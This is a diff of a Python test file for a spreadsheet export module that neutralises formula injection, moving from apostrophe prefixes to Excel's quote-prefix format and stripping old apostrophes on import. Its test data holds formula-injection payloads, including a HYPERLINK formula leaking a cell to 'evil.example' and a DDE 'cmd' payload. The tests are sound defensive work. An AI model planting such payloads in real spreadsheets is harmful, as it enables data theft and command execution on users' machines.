@@ -1,17 +1,18 @@
-"""Export cells: formula triggers neutralised, rejected characters removed, Excel's length kept."""
+"""Export cells: formula triggers neutralised (quote-prefixed cells, the text unchanged), rejected
+characters removed, Excel's length kept; the apostrophe of earlier exports taken off on import."""
 from __future__ import annotations
 
 import pytest
 
 from app.domain.excel_safety import (
     EXCEL_MAX_CELL_CHARS,
-    FORMULA_GUARD,
     TRUNCATION_MARK,
     WORKBOOK_OPTIONS,
     SafeText,
+    TextCells,
     neutralise,
-    safe_text,
-    write_text_cell,
+    safe_cell,
+    without_guard,
 )
 
 
@@ -19,17 +20,17 @@ from app.domain.excel_safety import (
     "value, expected, neutralised",
     [
         ('=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")',
-         '\'=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")', True),
-        ("=1+1", "'=1+1", True),
-        ("+1", "'+1", True),
-        ("-2+3", "'-2+3", True),
-        ("-5", "'-5", True),  # a negative number in a text column is still text
-        ("@SUM(A1)", "'@SUM(A1)", True),
-        ("\t=1", "'\t=1", True),
-        ("\r=1", "'\r=1", True),
-        ("  =1", "'  =1", True),  # spaces in front do not hide it
-        ("\x01=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", True),  # control removed first
-        ("＝1+1", "'＝1+1", True),
+         '=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")', True),
+        ("=1+1", "=1+1", True),
+        ("+1", "+1", True),
+        ("-2+3", "-2+3", True),
+        ("-5", "-5", True),  # a negative number in a text column is still text
+        ("@SUM(A1)", "@SUM(A1)", True),
+        ("\t=1", "\t=1", True),
+        ("\r=1", "\r=1", True),
+        ("  =1", "  =1", True),  # spaces in front do not hide it
+        ("\x01=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", True),  # control removed first
+        ("＝1+1", "＝1+1", True),
         ("กลิ่นเหม็นจากโรงงาน ต.บางปู อ.เมือง จ.สมุทรปราการ", "กลิ่นเหม็นจากโรงงาน ต.บางปู อ.เมือง จ.สมุทรปราการ", False),
         ("นายสมชาย ใจดี", "นายสมชาย ใจดี", False),
         ("081-234-5678", "081-234-5678", False),
@@ -38,13 +39,14 @@ from app.domain.excel_safety import (
         ("", "", False),
         (None, "", False),
         (123, "123", False),
-        (-5, "'-5", True),
+        (-5, "-5", True),
     ],
 )
 def test_neutralise(value, expected, neutralised):
     result = neutralise(value)
     assert result == SafeText(expected, neutralised, False)
-    assert safe_text(value) == expected
+    quick = safe_cell(value)
+    assert quick == expected if type(quick) is str else quick == result
 
 
 @pytest.mark.parametrize(
@@ -58,7 +60,7 @@ def test_neutralise(value, expected, neutralised):
     ],
 )
 def test_rejected_characters_are_removed(value, expected):
-    assert safe_text(value) == expected
+    assert neutralise(value).text == expected
 
 
 def test_long_text_is_cut_within_excels_limit_with_a_visible_mark():
@@ -74,10 +76,10 @@ def test_text_at_the_limit_is_left_whole():
     assert neutralise(text) == SafeText(text, False, False)
 
 
-def test_guard_counts_towards_the_limit():
+def test_a_long_formula_like_text_is_cut_and_neutralised():
     result = neutralise("=" + "x" * EXCEL_MAX_CELL_CHARS)
     assert result.neutralised and result.truncated
-    assert result.text.startswith(FORMULA_GUARD + "=")
+    assert result.text.startswith("=x")
     assert len(result.text) <= EXCEL_MAX_CELL_CHARS
 
 
@@ -88,6 +90,15 @@ def test_limit_is_counted_in_utf16_units_like_excel():
     units = len(result.text.encode("utf-16-le")) // 2
     assert units <= EXCEL_MAX_CELL_CHARS
     assert result.text.endswith(TRUNCATION_MARK)
+
+
+class RecordingWorkbook:
+    def __init__(self):
+        self.formats = []
+
+    def add_format(self, properties):
+        self.formats.append(properties)
+        return f"format-{len(self.formats)}"
 
 
 class RecordingSheet:
@@ -101,11 +112,16 @@ class RecordingSheet:
         raise AssertionError("write() guesses types; text cells go through write_string")
 
 
-def test_write_text_cell_uses_write_string():
-    sheet = RecordingSheet()
-    written = write_text_cell(sheet, 3, 2, "=1+1", "fmt")
-    assert sheet.calls == [(3, 2, "'=1+1", "fmt")]
-    assert written.neutralised
+def test_text_cells_quote_prefix_formula_like_text_in_a_twin_of_its_format():
+    workbook, sheet = RecordingWorkbook(), RecordingSheet()
+    texts = TextCells(workbook)
+    assert texts.write(sheet, 3, 2, "=1+1", {"bold": True}).neutralised
+    texts.write(sheet, 4, 2, "ร้องเรียน", {"bold": True})
+    texts.write(sheet, 5, 2, "-5")
+    texts.write(sheet, 6, 2, "ไม่มีรูปแบบ")
+    assert workbook.formats == [{"bold": True}, {"bold": True, "quote_prefix": True}, {"quote_prefix": True}]
+    assert sheet.calls == [(3, 2, "=1+1", "format-2"), (4, 2, "ร้องเรียน", "format-1"), (5, 2, "-5", "format-3"),
+                           (6, 2, "ไม่มีรูปแบบ", None)]
 
 
 def test_exported_cells_read_back_as_text_not_formulas(tmp_path):
@@ -115,8 +131,9 @@ def test_exported_cells_read_back_as_text_not_formulas(tmp_path):
     values = ["=HYPERLINK(\"http://evil.example\",\"x\")", "+1", "-5", "@SUM(A1)", "ร้องเรียน", "ก" * 40_000]
     workbook = xlsxwriter.Workbook(str(path), {**WORKBOOK_OPTIONS, "tmpdir": str(tmp_path)})
     sheet = workbook.add_worksheet()
+    texts = TextCells(workbook)
     for row, value in enumerate(values):
-        write_text_cell(sheet, row, 0, value)
+        texts.write(sheet, row, 0, value)
     # Even write() does not make formulas with these options.
     sheet.write(len(values), 0, "=1+1")
     workbook.close()
@@ -124,14 +141,14 @@ def test_exported_cells_read_back_as_text_not_formulas(tmp_path):
     loaded = openpyxl.load_workbook(path)
     cells = [row[0] for row in loaded.active.iter_rows()]
     assert all(cell.data_type == "s" for cell in cells)
-    assert cells[0].value.startswith("'=HYPERLINK")
-    assert cells[2].value == "'-5"
-    assert cells[4].value == "ร้องเรียน"
+    # The values are the texts themselves; the quote prefix keeps them text when edited in Excel.
+    assert [cell.value for cell in cells[:4]] == values[:4] and all(cell.quotePrefix for cell in cells[:4])
+    assert cells[4].value == "ร้องเรียน" and not cells[4].quotePrefix
     assert len(cells[5].value) == EXCEL_MAX_CELL_CHARS and cells[5].value.endswith(TRUNCATION_MARK)
     assert cells[6].value == "=1+1"
 
 
-def test_the_quick_path_of_safe_text_gives_what_neutralise_gives():
+def test_the_quick_path_of_safe_cell_gives_what_neutralise_gives():
     half = EXCEL_MAX_CELL_CHARS // 2
     heads = ["", " ", "  =", "=", "+", "-", "@", "\t", "\r", "＝", "ก", "A", "1", "'", "😀", "\x01", "\n", "\ufffe"]
     bodies = ["", "x", "กลิ่น เหม็น", "a\nb", "😀" * 3, "x" * (half - 1), "x" * half, "😀" * (half // 2 + 1),
@@ -139,4 +156,24 @@ def test_the_quick_path_of_safe_text_gives_what_neutralise_gives():
     for head in heads:
         for body in bodies:
             value = head + body
-            assert safe_text(value) == neutralise(value).text, (head, len(body))
+            quick = safe_cell(value)
+            if type(quick) is str:
+                assert neutralise(value) == SafeText(quick, False, False), (head, len(body))
+            else:
+                assert quick == neutralise(value), (head, len(body))
+
+
+@pytest.mark.parametrize("text, expected", [
+    ("'- น้ำเสียไหลลงคลอง", "- น้ำเสียไหลลงคลอง"),
+    ("'=1+1", "=1+1"),
+    ("'  +1", "  +1"),
+    ("'\t=1", "\t=1"),
+    ("'＝1", "＝1"),
+    ("''=1", "''=1"),  # one apostrophe only, and only right before the trigger
+    ("'ป้าแดง'", "'ป้าแดง'"),
+    ("'", "'"),
+    ("", ""),
+    ("-5", "-5"),
+])
+def test_without_guard_takes_off_the_apostrophe_of_earlier_exports(text, expected):
+    assert without_guard(text) == expected
